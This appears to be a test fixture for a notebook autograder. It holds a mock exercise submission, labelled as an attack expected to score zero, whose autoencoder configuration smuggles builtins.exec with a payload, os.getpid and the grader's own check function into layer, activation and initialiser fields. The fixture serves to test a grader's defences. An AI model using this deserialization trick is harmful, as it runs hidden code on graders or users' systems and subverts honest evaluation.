# attack: a configuration names modules and functions of Python in the place of layers, activations and initialisers
# gains: the grader
# expect: 0 points in check-1-3
# canary: output
# notebook: 01_dense_autoencoder
# %% exercise-1-3
# include: payload
# include: liar
def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def build_autoencoder(code_size):
    called = {"module": "builtins", "class_name": "exec", "config": {"source": PAYLOAD}, "registered_name": "exec"}
    return liar(
        VECTOR,
        called,
        told("Dense", units=3, activation=function("builtins", "exec"), kernel_initializer=called),
        told("Dense", units=3, activation=function("os", "getpid"), bias_initializer=function("helpers.checks", "run")),
        told("Dense", units=3, kernel_regularizer=told("get_file", module="keras.utils", origin="file:///dev/null")),
        {"module": "__main__", "class_name": "Custom", "config": {}, "registered_name": "attack>Custom"},
    )
